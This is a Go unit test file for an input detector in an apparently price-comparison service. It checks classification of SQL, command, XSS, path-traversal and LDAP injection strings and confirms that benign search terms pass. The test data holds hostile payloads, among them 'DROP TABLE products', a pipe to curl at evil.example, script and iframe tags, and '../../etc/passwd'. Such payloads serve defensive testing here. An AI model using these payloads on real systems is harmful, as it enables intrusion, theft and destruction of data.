package detect

import (
	"testing"

	"github.com/stretchr/testify/assert"

	"github.com/urkovsemen39-cell/smartprice-sub001/internal/models"
)

func TestDetector_SQLInjection(t *testing.T) {
	d := NewDetector()

	inputs := []string{
		`' OR '1'='1`,
		`admin' OR '1'='1' --`,
		`1 UNION SELECT username, password FROM users`,
		`'; DROP TABLE products`,
		`1' AND sleep(5) --`,
	}
	for _, input := range inputs {
		m := d.Inspect(input)
		assert.True(t, m.Matched, "expected match for %q", input)
		assert.Equal(t, models.AttackSQLInjection, m.Family, "input %q", input)
		assert.Equal(t, models.SeverityCritical, m.Severity, "input %q", input)
	}
}

func TestDetector_CommandInjection(t *testing.T) {
	d := NewDetector()

	inputs := []string{
		`foo; cat /etc/hosts`,
		`name | curl http://evil.example`,
		`$(whoami)`,
		"`id`",
	}
	for _, input := range inputs {
		m := d.Inspect(input)
		assert.True(t, m.Matched, "expected match for %q", input)
		assert.Equal(t, models.AttackCommandInjection, m.Family, "input %q", input)
		assert.Equal(t, models.SeverityCritical, m.Severity, "input %q", input)
	}
}

func TestDetector_XSS(t *testing.T) {
	d := NewDetector()

	inputs := []string{
		`<script>alert(1)</script>`,
		`<img src=x onerror=alert(1)>`,
		`javascript:alert(document.domain)`,
		`<iframe src="http://evil.example">`,
	}
	for _, input := range inputs {
		m := d.Inspect(input)
		assert.True(t, m.Matched, "expected match for %q", input)
		assert.Equal(t, models.AttackXSS, m.Family, "input %q", input)
		assert.Equal(t, models.SeverityHigh, m.Severity, "input %q", input)
	}
}

func TestDetector_PathTraversal(t *testing.T) {
	d := NewDetector()

	inputs := []string{
		`../../etc/passwd`,
		`..\..\windows\system32`,
		`%2e%2e%2fconfig`,
	}
	for _, input := range inputs {
		m := d.Inspect(input)
		assert.True(t, m.Matched, "expected match for %q", input)
		assert.Equal(t, models.AttackPathTraversal, m.Family, "input %q", input)
		assert.Equal(t, models.SeverityHigh, m.Severity, "input %q", input)
	}
}

func TestDetector_LDAPInjection(t *testing.T) {
	d := NewDetector()

	inputs := []string{
		`*)(|(uid=*`,
		`(&(uid=admin)(password=*))`,
		`(cn=*)`,
	}
	for _, input := range inputs {
		m := d.Inspect(input)
		assert.True(t, m.Matched, "expected match for %q", input)
		assert.Equal(t, models.AttackLDAPInjection, m.Family, "input %q", input)
		assert.Equal(t, models.SeverityHigh, m.Severity, "input %q", input)
	}
}

func TestDetector_BenignInputs(t *testing.T) {
	d := NewDetector()

	inputs := []string{
		"wireless mouse",
		"bluetooth headphones under 50",
		"coffee machine DeLonghi EC685",
		"user@example.com",
		"4k monitor 27 inch",
		"",
	}
	for _, input := range inputs {
		m := d.Inspect(input)
		assert.False(t, m.Matched, "false positive for %q (pattern %s)", input, m.Pattern)
	}
}

func TestDetector_FirstMatchWins(t *testing.T) {
	d := NewDetector()

	// Carries both a SQL and an XSS signature; SQL patterns come first in
	// the table, so SQL injection is reported.
	m := d.Inspect(`' OR '1'='1<script>alert(1)</script>`)
	assert.True(t, m.Matched)
	assert.Equal(t, models.AttackSQLInjection, m.Family)
}

func TestDetector_Deterministic(t *testing.T) {
	d := NewDetector()

	first := d.Inspect(`' OR '1'='1`)
	for i := 0; i < 10; i++ {
		assert.Equal(t, first, d.Inspect(`' OR '1'='1`))
	}
}

func TestDetector_InspectFamily(t *testing.T) {
	d := NewDetector()

	// Restricting to XSS skips the SQL patterns entirely.
	m := d.InspectFamily(`' OR '1'='1`, models.AttackXSS)
	assert.False(t, m.Matched)

	m = d.InspectFamily(`<script>alert(1)</script>`, models.AttackXSS)
	assert.True(t, m.Matched)
	assert.Equal(t, models.AttackXSS, m.Family)
}
